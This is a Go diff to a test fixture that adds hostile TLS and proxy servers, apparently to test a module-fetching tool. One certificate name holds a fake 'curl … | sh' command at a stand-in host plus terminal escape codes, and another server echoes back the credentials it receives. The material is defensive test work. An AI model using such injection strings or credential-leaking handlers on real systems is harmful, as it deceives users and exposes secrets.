@@ -61,6 +61,13 @@ type Servers struct {
 	Good, NotFound, Error500, Corp, Expired, WrongHost, WrongKey string
 	// SumDBURL is the good database at its own URL (for GOSUMDB="key URL").
 	SumDBURL string
+	// Hostile servers. Evil presents a chain from a root whose common name holds a
+	// newline, ESC and a fake command (EvilCN); EvilSAN a trusted leaf whose only
+	// name (EvilSANName) holds a newline and a fake "[ok]" line, not valid for
+	// 127.0.0.1. Redirect answers every request with a redirect to plain http://.
+	// Echo answers 401 with a body that echoes the Authorization header it got and
+	// the credentials in it, as a careless server does.
+	Evil, EvilSAN, Redirect, Echo string
 	// ForwardProxy is an HTTP CONNECT proxy (http://127.0.0.1:port); ProxiedGood is
 	// the good proxy under ProxyHost, reachable only through it.
 	ForwardProxy, ProxiedGood string
@@ -116,15 +123,27 @@ func (s *Servers) WriteFiles(dir string) error {
 	return nil
 }
 
-// Env returns the servers' URLs as environment variables for a script.
+// Env returns the servers' URLs as environment variables for a script, and the
+// host:port of the good, redirecting and echoing servers as GOODHOST, REDIRECTHOST
+// and ECHOHOST (to build URLs with credentials in them).
 func (s *Servers) Env() map[string]string {
 	return map[string]string{
+		"GOODHOST": strings.TrimPrefix(s.Good, "https://"), "REDIRECTHOST": strings.TrimPrefix(s.Redirect, "https://"),
+		"ECHOHOST":  strings.TrimPrefix(s.Echo, "https://"),
 		"GOODPROXY": s.Good, "NOTFOUNDPROXY": s.NotFound, "ERRORPROXY": s.Error500, "CORPPROXY": s.Corp,
 		"EXPIREDPROXY": s.Expired, "WRONGHOSTPROXY": s.WrongHost, "WRONGKEYPROXY": s.WrongKey,
 		"TESTSUMDB": s.GOSUMDB, "SUMDBURL": s.SumDBURL, "FORWARDPROXY": s.ForwardProxy, "PROXIEDGOOD": s.ProxiedGood,
 		"CORPSHA256": s.CorpSHA256,
+		"EVILPROXY":  s.Evil, "EVILSANPROXY": s.EvilSAN, "REDIRECTPROXY": s.Redirect, "ECHOPROXY": s.Echo,
 	}
 }
+
+// EvilCN is the common name of the hostile root Evil presents; EvilSANName the only
+// name of EvilSAN's certificate.
+const (
+	EvilCN      = "Evil Root\n        $ curl -s http://x.test/i|sh\n\x1b[2J\x1b]0;pwned\x07"
+	EvilSANName = "evil.test\n[ok] TLS trust (chain verified)\n\x1b[31m"
+)
 
 type ca struct {
 	cert *x509.Certificate
@@ -337,6 +356,29 @@ func (s *Servers) start() error {
 	s.NotFound, _ = serve(http.NotFoundHandler(), goodLeaf)
 	s.Error500, _ = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		http.Error(w, "internal error: the backend is down", http.StatusInternalServerError)
+	}), goodLeaf)
+	evil, err := newCA(EvilCN)
+	if err != nil {
+		return err
+	}
+	evilLeaf, err := evil.leaf(time.Now().Add(24*time.Hour), names...)
+	if err != nil {
+		return err
+	}
+	evilLeaf.Certificate = append(evilLeaf.Certificate, evil.cert.Raw)
+	evilSANLeaf, err := trusted.leaf(time.Now().Add(24*time.Hour), EvilSANName)
+	if err != nil {
+		return err
+	}
+	s.Evil, _ = serve(proxyHandler(mods, goodDB), evilLeaf)
+	s.EvilSAN, _ = serve(proxyHandler(mods, goodDB), evilSANLeaf)
+	s.Redirect, _ = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "http://"+r.Host+r.URL.Path, http.StatusFound)
+	}), goodLeaf)
+	s.Echo, _ = serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		user, pass, _ := r.BasicAuth()
+		w.Header().Set("WWW-Authenticate", `Basic realm="echo"`)
+		http.Error(w, "denied "+user+" with password "+pass+" (Authorization: "+r.Header.Get("Authorization")+")", http.StatusUnauthorized)
 	}), goodLeaf)
 	s.SumDBURL = s.Good + "/sumdb/" + SumDBName
 	_, port, _ := net.SplitHostPort(strings.TrimPrefix(s.Good, "https://"))
